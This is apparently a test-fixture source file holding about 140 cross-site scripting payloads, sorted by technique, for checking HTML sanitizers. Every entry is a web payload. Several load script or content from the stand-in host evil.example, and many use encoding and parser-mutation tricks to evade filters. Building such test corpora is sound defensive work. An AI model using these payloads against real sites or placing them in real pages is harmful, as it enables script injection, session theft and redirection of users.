/**
 * Known ways to get script through sanitizers, written for our tests. `alert(1)` stands for any script, evil.example for
 * any other site.
 */
export type Vector = { class: string; html: string }

const vectors: Record<string, readonly string[]> = {
  'script element': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script/x>',
    '<script\n>alert(1)</script\t>',
    '<<script>alert(1);//<</script>',
    '<script>/*</script><script>*/alert(1)</script>',
    '<script type="module">import "//evil.example/x.js"</script>',
    '<script>alert(1)',
    '<p><script>alert(1)</script><p>after'
  ],
  'event handler': [
    '<img src=x onerror=alert(1)>',
    '<img src="/a.png" onload="alert(1)">',
    '<img/src="x"/onerror="alert(1)">',
    "<img src='x' \u000conerror='alert(1)'>",
    '<p onmouseover=alert(1)>hover</p>',
    '<h2 tabindex=1 onfocus=alert(1) autofocus>focus</h2>',
    '<a href="/learn" onclick="alert(1)">click</a>',
    '<table onpointerenter=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>',
    '<b onanimationstart=alert(1) style="animation: x 1s">x</b>',
    '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
    '<img src="x` `<script>alert(1)</script>"` `onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<hr on error=alert(1) onerror\u0000=alert(1)>',
    '<body onload=alert(1)>text',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<marquee onstart=alert(1)>x</marquee>'
  ],
  'address that runs': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="&#0;javascript:alert(1)">x</a>',
    '<a href="javascript\u00ad:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="ｊavascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="/\t/evil.example/">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https:javascript:alert(1)">x</a>',
    '<a href="mailto:a@b.example?x=javascript:alert(1)">x</a>',
    '<a href="http://[">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="/learn" href="javascript:alert(1)">x</a>',
    '<a href="/learn" target="_blank" ping="https://evil.example/">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<img src="/a.png" srcset="https://evil.example/x.png 2x">',
    '<img src="/blog-images/../../api/auth/logout.png?x=.webp">',
    '<img lowsrc="https://evil.example/x.png" dynsrc="javascript:alert(1)">',
    '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x'
  ],
  'foreign namespace': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="https://evil.example/x.js"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>'
  ],
  'markup that changes when it is parsed again': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<p id="</title><img src=x onerror=alert(1)>"><title></p></title>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
    '<table><td><p></table><img src=x onerror=alert(1)>',
    '<a href="`x`<!--`<img/src=`/onerror=alert(1)>-->`">x</a>',
    '<code>&lt;img src=x onerror=alert(1)&gt;</code>',
    '<pre><code></pre><script>alert(1)</script></code>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>'
  ],
  'comment and declaration': [
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!ENTITY x "<script>alert(1)</script>"><p>&x;</p>',
    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    '<!doctype html [<!--><img src=x onerror=alert(1)>',
    '</ img src=x onerror=alert(1)><img src=x onerror=alert(1)'
  ],
  style: [
    '<style>@import "https://evil.example/x.css"</style>',
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<span class="ink-red toast dialog" style="-moz-binding:url(//evil.example)">x</span>'
  ],
  'frame, plug-in and form': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x" codebase="https://evil.example/"></applet>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus=alert(1)>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<video src="https://evil.example/x.mp4" onerror=alert(1)><source onerror=alert(1)></video>',
    '<audio autoplay src="https://evil.example/x.mp3"></audio>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<portal src="https://evil.example/"></portal>'
  ],
  'document that is taken over': [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv=refresh content="0;javascript:alert(1)">',
    '<base href="https://evil.example/"><a href="/learn">x</a>',
    '<link rel="prefetch" href="https://evil.example/x">',
    '<link rel=import href="https://evil.example/x.html">',
    '<template><img src=x onerror=alert(1)></template>',
    '<p><template shadowrootmode=open><img src=x onerror=alert(1)></template></p>',
    '<slot name=x onslotchange=alert(1)></slot>',
    '<html manifest="https://evil.example/x"><body background="https://evil.example/x">x</body></html>'
  ],
  'name that shadows another': [
    '<a id=defaultView name=location href="https://evil.example/">x</a>',
    '<form name=body><input name=parentNode></form>',
    '<img name=getElementById src="/a.png" id=currentScript>',
    '<p id="__proto__">x</p><p id="main">x</p>',
    '<a id=config><a id=config name=url href="https://evil.example/x.js">x</a></a>'
  ],
  'odd characters': [
    '\ufeff<script>alert(1)</script>',
    '<\u0000script>alert(1)</script>',
    '<img src=x\u00a0onerror=alert(1)>',
    '<p title=\u2028onclick=alert(1)>x</p>',
    '<ſcript>alert(1)</ſcript>',
    '<p>\ud800<img src=x onerror=alert(1)>\udfff</p>',
    '<p>\u202e<script>alert(1)</script></p>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
  ]
}

export const xssCorpus: readonly Vector[] = Object.entries(vectors).flatMap(([name, list]) =>
  list.map((html) => ({ class: name, html }))
)
